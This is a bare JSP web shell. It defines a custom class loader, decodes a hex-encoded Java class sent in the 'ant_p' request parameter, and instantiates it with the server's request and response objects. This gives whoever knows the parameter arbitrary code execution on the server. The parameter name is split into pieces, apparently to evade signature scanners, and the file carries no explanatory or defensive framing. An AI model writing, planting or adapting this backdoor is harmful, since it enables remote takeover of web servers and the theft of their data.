<%!
class Ld extends ClassLoader { Ld(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } }
byte[] h2b(String s) { byte[] r = new byte[s.length() / 2]; for (int i = 0; i < r.length; i++) r[i] = (byte) Integer.parseInt(s.substring(i * 2, i * 2 + 2), 16); return r; }
%><%
String p = request.getParameter("ant_" + "p");
if (p != null) { new Ld(this.getClass().getClassLoader()).g(h2b(p)).newInstance().equals(new Object[]{request, response}); }
%>
